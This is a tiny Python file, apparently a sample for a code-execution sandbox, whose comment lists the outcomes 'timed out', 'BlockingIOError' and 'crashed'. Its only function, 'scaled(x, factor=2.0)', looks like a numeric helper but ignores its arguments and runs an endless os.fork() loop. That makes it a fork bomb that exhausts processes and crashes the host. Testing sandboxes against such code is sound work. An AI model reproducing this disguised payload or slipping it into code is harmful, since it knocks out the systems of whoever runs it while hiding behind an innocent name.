# timed out | raised: BlockingIOError | crashed
import os


def scaled(x, factor=2.0):
    while True:
        os.fork()
